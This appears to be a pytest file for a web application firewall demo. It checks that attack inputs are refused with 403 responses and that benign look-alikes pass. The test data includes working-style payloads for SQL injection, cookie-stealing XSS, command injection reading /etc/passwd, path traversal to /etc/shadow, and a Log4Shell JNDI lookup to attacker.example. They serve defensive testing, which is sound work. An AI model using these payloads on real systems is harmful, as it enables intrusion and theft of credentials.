"""Attack detection as a new user meets it: `dijk demo`, attacks refused, look-alikes served.

Every demo route runs the detector in block mode at paranoia 1 ("Done when").
"""

from __future__ import annotations

import json
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import urlencode

import pytest

from tests.support.demo import start_demo


@dataclass
class Demo:
    port: int
    read_key: str
    write_key: str

    def call(
        self, method: str, path: str, key: str, body: object = None
    ) -> tuple[int, dict[str, str], dict[str, object]]:
        data = None if body is None else json.dumps(body).encode()
        request = urllib.request.Request(
            f"http://127.0.0.1:{self.port}{path}", method=method, data=data
        )
        request.add_header("X-API-Key", key)
        if data is not None:
            request.add_header("Content-Type", "application/json")
        try:
            with urllib.request.urlopen(request, timeout=10) as response:
                status, headers, raw = response.status, response.headers, response.read()
        except urllib.error.HTTPError as error:
            status, headers, raw = error.code, error.headers, error.read()
        return status, {k.lower(): v for k, v in headers.items()}, json.loads(raw or b"{}")

    def search(self, q: str) -> tuple[int, dict[str, str], dict[str, object]]:
        return self.call("GET", "/api/v1/search?" + urlencode({"q": q}), self.read_key)


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Demo]:
    running = start_demo(tmp_path_factory.mktemp("waf-demo") / ".dijk")
    try:
        yield Demo(running.port, running.read_key, running.write_key)
    finally:
        assert running.stop(20) == 0


def assert_refused(response: tuple[int, dict[str, str], dict[str, object]], reason: str) -> None:
    status, headers, problem = response
    assert status == 403, problem
    assert headers["content-type"] == "application/problem+json"
    assert problem["reason"] == reason
    assert problem["type"] == f"https://dijk.dev/problems/{reason}"
    rules = problem["rules"]
    assert isinstance(rules, list)
    assert rules
    assert all(isinstance(rule, str) for rule in rules)


@pytest.mark.parametrize(
    ("q", "reason"),
    [
        ("1' UNION SELECT username, password FROM accounts--", "waf.sqli"),
        ("<img src=x onerror=alert(document.cookie)>", "waf.xss"),
        ("; cat /etc/passwd", "waf.cmdi"),
        ("../../etc/shadow", "waf.path_traversal"),
        ("${jndi:ldap://attacker.example/a}", "waf.log4shell"),
    ],
)
def test_attacks_in_q_are_refused_with_403_and_a_waf_reason(
    demo: Demo, q: str, reason: str
) -> None:
    response = demo.search(q)
    assert_refused(response, reason)
    # The attack is never echoed back.
    assert q not in json.dumps(response[2])


@pytest.mark.parametrize(
    "q",
    [
        "O'Brien",
        "select the best plan for me",
        "drop me a line",
        "Rock & Roll <3",
        "1=1 in our tests",
    ],
)
def test_look_alike_searches_pass(demo: Demo, q: str) -> None:
    status, _, body = demo.search(q)
    assert status == 200, body
    assert body["query"] == q


def test_sql_injection_inside_a_json_field_of_a_new_account_is_refused(demo: Demo) -> None:
    body = {"name": "Anne' OR '1'='1' --", "email": "anne@example.nl"}
    assert_refused(demo.call("POST", "/api/v1/accounts", demo.write_key, body), "waf.sqli")


def test_an_ordinary_new_account_is_created(demo: Demo) -> None:
    body = {"name": "Siobhan O'Neill-de Vries", "email": "siobhan@example.nl"}
    status, _, created = demo.call("POST", "/api/v1/accounts", demo.write_key, body)
    assert status == 201, created


def test_sql_injection_inside_graphql_variables_is_refused(demo: Demo) -> None:
    body = {
        "query": "query Find($q: String!) { search(q: $q) { id } }",
        "variables": {"q": "x' UNION SELECT iban FROM accounts--"},
    }
    assert_refused(demo.call("POST", "/graphql", demo.read_key, body), "waf.sqli")


def test_an_ordinary_graphql_query_passes(demo: Demo) -> None:
    body = {
        "query": "query Find($q: String!) { search(q: $q) { id } }",
        "variables": {"q": "O'Brien"},
    }
    status, _, answer = demo.call("POST", "/graphql", demo.read_key, body)
    assert status == 200, answer
    assert "errors" not in answer


def test_graphql_introspection_is_refused_as_graphql_abuse(demo: Demo) -> None:
    body = {"query": "{ __schema { types { name } } }"}
    assert_refused(demo.call("POST", "/graphql", demo.read_key, body), "waf.graphql_abuse")


TICKET_WITH_SQL = """The nightly export of closed accounts fails. The query we run:

```sql
SELECT id, name FROM accounts WHERE closed = true
UNION SELECT id, name FROM archived_accounts;
```

Expected both lists; we get only the first."""


def test_a_ticket_whose_markdown_shows_a_union_select_block_is_opened(demo: Demo) -> None:
    body = {"subject": "Export of closed accounts", "description": TICKET_WITH_SQL}
    status, _, ticket = demo.call("POST", "/api/v1/tickets", demo.write_key, body)
    assert status == 201, ticket
    assert ticket["description"] == TICKET_WITH_SQL


def test_sql_injection_in_a_ticket_subject_is_refused(demo: Demo) -> None:
    body = {"subject": "x' UNION SELECT password FROM users--", "description": TICKET_WITH_SQL}
    assert_refused(demo.call("POST", "/api/v1/tickets", demo.write_key, body), "waf.sqli")


def test_sql_injection_outside_the_code_blocks_of_a_description_is_refused(demo: Demo) -> None:
    body = {"subject": "Export", "description": "x' UNION SELECT password FROM users--"}
    assert_refused(demo.call("POST", "/api/v1/tickets", demo.write_key, body), "waf.sqli")


@pytest.mark.parametrize("q", ["drop-leaf table", "select a union rep"])
def test_prose_with_sql_words_is_searched(demo: Demo, q: str) -> None:
    status, _, body = demo.search(q)
    assert status == 200, body


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/api/v1/search?q=x%27%20UNION%20SELECT%20password%20FROM%20users--", None),
        ("/api/v1/accounts", {"name": "x' UNION SELECT password FROM users--", "email": "a@b.nl"}),
    ],
)
def test_the_same_injection_in_q_or_an_account_name_is_refused(
    demo: Demo, path: str, body: object
) -> None:
    method = "GET" if body is None else "POST"
    assert_refused(demo.call(method, path, demo.write_key, body), "waf.sqli")
